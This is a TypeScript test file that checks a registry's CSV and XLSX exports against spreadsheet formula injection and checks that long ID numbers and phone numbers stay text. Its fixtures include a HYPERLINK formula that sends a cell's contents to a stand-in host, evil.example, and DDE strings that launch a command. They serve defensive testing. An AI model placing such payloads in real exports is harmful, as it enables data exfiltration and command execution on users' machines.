import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvCell, escapeFormula } from "../../server/exports/summary-tables.ts";
import { APPROVED_CASE, DIALECTS, startServer, type TestServer } from "./harness.ts";

/**
 * The registry's summary tables opened in a spreadsheet (issue #12): a value typed at the desk
 * never runs as a formula (OWASP CSV injection), and ID numbers, codes and phone numbers stay
 * text, so Excel neither rounds an 18-digit ID number nor drops a phone's leading 0.
 */
const ID = "510402195001011236";
const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  contactAddress: "+cmd|' /C calc'!A0",
  ssCardNumber: "@SUM(1+1)*cmd|' /C calc'!A0",
  phone1: "08123456789",
};
const CASE = {
  ...APPROVED_CASE,
  id: "csv-hostile",
  applicant: { idNumber: ID, name: HOSTILE.name },
  filing: {
    ...APPROVED_CASE.filing,
    destination: { region: "460200", hospital: { name: "-2+3", level: "3A" } },
    form: {
      phone1: HOSTILE.phone1,
      homeAddress: "\t=1+1",
      contactAddress: HOSTILE.contactAddress,
      ssCardNumber: HOSTILE.ssCardNumber,
    },
  },
};
/** The cells a spreadsheet would run: the OWASP list of first characters. */
const RUNS = /^[=+\-@\t\r]/;

describe("cells of a CSV export", () => {
  it("are escaped with a leading ' when they start with = + - @ tab or CR", () => {
    for (const c of ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"]) expect(escapeFormula(c)).toBe(`'${c}`);
    for (const c of ["张三", "1+1", "a=b", "'quoted", ""]) expect(escapeFormula(c)).toBe(c);
  });
  it("are marked as text after a tab in the code columns when they are digits, and nowhere else", () => {
    expect(csvCell(ID, 6)).toBe(`\t${ID}`);
    expect(csvCell("51040219500101123X", 6)).toBe("\t51040219500101123X");
    expect(csvCell("=1+1", 6)).toBe("'=1+1");
    expect(csvCell("12345", 2)).toBe("12345");
    expect(csvCell(7, 0)).toBe(7);
  });
});

describe.each(DIALECTS)("the summary table export ($name)", (dialect) => {
  let s: TestServer;
  beforeAll(async () => {
    s = await startServer(dialect, { today: () => "2017-07-15" });
    const d = await s.as("clerk", { method: "POST", url: "/api/decisions", payload: CASE });
    expect(d.statusCode, d.body).toBe(200);
    const f = await s.as("clerk", {
      method: "POST",
      url: "/api/filings",
      payload: { decisionId: d.json().decisionId },
    });
    expect(f.statusCode, f.body).toBe(201);
  }, 60_000);
  afterAll(async () => s?.close());

  it("writes CSV in which no cell runs as a formula and ID numbers and phones stay text", async () => {
    const r = await s.as("clerk", { method: "GET", url: "/api/filings/export?format=csv" });
    expect(r.statusCode).toBe(200);
    const rows: string[][] = parse(r.body, { bom: true, relax_column_count: false });
    const [header, row] = rows;
    if (!header || !row) throw new Error("no data row");
    const at = (column: string) => row[header.indexOf(column)] ?? "";
    // A cell that starts like a formula is either escaped with ' or a tab followed by digits only.
    for (const cell of row) {
      if (RUNS.test(cell)) expect(cell, JSON.stringify(cell)).toMatch(/^\t\d+[Xx]?$/);
    }
    expect(at("姓名")).toBe(`'${HOSTILE.name}`);
    expect(at("地址")).toBe(`'${HOSTILE.contactAddress}`);
    expect(at("社会保障卡卡号")).toBe(`'${HOSTILE.ssCardNumber}`);
    expect(at("备案医院名称")).toBe("'-2+3");
    // Text marking: the value after the tab is the ID number, whole.
    expect(at("社会保障号码")).toBe(`\t${ID}`);
    expect(at("联系电话")).toBe(`\t${HOSTILE.phone1}`);
    expect(at("参保地行政区划代码")).toBe("\t510402");
  });

  it("writes XLSX with every value a string cell (never a formula) and the ID column formatted as text", async () => {
    const r = await s.as("clerk", { method: "GET", url: "/api/filings/export?format=xlsx" });
    expect(r.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(r.rawPayload as unknown as ArrayBuffer);
    const ws = wb.getWorksheet("附件2");
    if (!ws) throw new Error("no sheet 附件2");
    const row = ws.getRow(2);
    const byHeader = (name: string) => {
      const header = (ws.getRow(1).values as unknown[]).indexOf(name);
      return row.getCell(header);
    };
    for (let c = 2; c <= row.cellCount; c++) {
      const cell = row.getCell(c);
      if (cell.value === null || cell.value === "") continue;
      expect(cell.type, `column ${c}`).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
    expect(byHeader("姓名").value).toBe(HOSTILE.name);
    const id = byHeader("社会保障号码");
    expect(id.value).toBe(ID);
    expect(id.numFmt).toBe("@");
    expect(byHeader("联系电话").value).toBe(HOSTILE.phone1);
  });
});
